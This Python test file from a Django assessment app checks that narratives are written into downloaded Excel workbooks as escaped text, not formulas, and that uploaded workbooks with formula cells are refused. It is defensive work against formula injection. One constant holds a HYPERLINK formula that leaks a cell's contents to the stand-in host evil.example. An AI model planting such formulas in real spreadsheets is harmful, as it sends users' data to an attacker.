"""Spreadsheet formula injection: user text goes into workbooks as text, comes back unchanged, and
a formula in an uploaded workbook is refused with its cell named (never read as empty)."""

import io

import openpyxl
import pytest
from django.urls import reverse

from assessments import services
from assessments.models import AssessmentEvent, EventKind
from assessments.rules import Answer
from tests.assessments.test_excel import (
    as_bytes,
    download,
    fill,
    indonesian,
    problems,
    row_of,
    snapshot,
    upload,
)

LEAK = '=HYPERLINK("http://evil.example/?leak="&D2,"Klik")'
NARRATIVE, NA_REASON = 7, 6


@pytest.fixture
def s21(assessment):
    return assessment.responses.select_related("indicator").get(indicator__code="STR.S2.1")


def save_online(response, user, narrative: str) -> None:
    services.response_save(
        response=response,
        user=user,
        expected_version=response.version,
        answer=Answer(3, False, "", narrative, None),
    )


@pytest.mark.parametrize("typed", [LEAK, "+62 812", "-1+1", "@SUM(A1)", "'=already"])
def test_a_narrative_typed_online_downloads_as_text_and_uploads_back_unchanged(
    client, official, facilitator, assessment, s21, typed
):
    save_online(s21, official, typed)
    for reader in (official, facilitator):  # the facilitator's download too
        client.force_login(reader)
        response = client.get(reverse("assessments:excel_download", args=[assessment.pk]))
        # Parsed back with formulas kept as formulas: the cell is a string, escaped.
        sheet = openpyxl.load_workbook(io.BytesIO(response.content))["Penilaian"]
        cell = sheet.cell(row_of(sheet, "STR.S2.1"), NARRATIVE)
        assert (cell.data_type, cell.value) == ("s", "'" + typed)

    client.force_login(official)
    workbook = download(client, official, assessment)
    before = snapshot(assessment)
    reply = upload(client, assessment, as_bytes(workbook))
    assert reply.status_code == 302
    s21.refresh_from_db()
    assert s21.narrative == typed
    assert snapshot(assessment)[:-1] == before[:-1]  # no answer changed (only the import event)


def test_ordinary_text_is_written_as_it_is(client, official, assessment, s21):
    save_online(s21, official, "Ada SK Dewan Smart City - 2025")
    sheet = download(client, official, assessment)["Penilaian"]
    assert sheet.cell(row_of(sheet, "STR.S2.1"), NARRATIVE).value == (
        "Ada SK Dewan Smart City - 2025"
    )


def test_every_written_text_cell_of_the_workbook_is_a_string_not_a_formula(
    client, official, assessment, s21
):
    save_online(s21, official, LEAK)
    workbook = download(client, official, assessment)
    formulas = [
        cell.coordinate
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas == []


@pytest.mark.parametrize("column", [NARRATIVE, NA_REASON, 5])
def test_a_formula_cell_in_an_upload_is_refused_with_its_cell_named(
    client, official, assessment, s21, column
):
    save_online(s21, official, "Narasi yang sudah disimpan")
    workbook = download(client, official, assessment)
    sheet = workbook["Penilaian"]
    row = fill(sheet, "STR.S2.1", narrative="Narasi yang sudah disimpan")
    sheet.cell(row, column).value = '=CONCAT("a","b")'
    before = snapshot(assessment)

    reply = upload(client, assessment, as_bytes(workbook))
    letter = openpyxl.utils.get_column_letter(column)
    expected = indonesian(
        "Cell %(cell)s holds a formula (%(formula)s). Type the text or the choice itself "
        "instead; formulas are not imported.",
        cell=f"{letter}{row}",
        formula='=CONCAT("a","b")',
    )
    assert [(r, c, m) for _sheet, r, c, m in problems(reply)] == [(row, letter, expected)]
    assert snapshot(assessment) == before  # the narrative is not cleared
    s21.refresh_from_db()
    assert s21.narrative == "Narasi yang sudah disimpan"
    assert not AssessmentEvent.objects.filter(kind=EventKind.EXCEL_IMPORTED).exists()
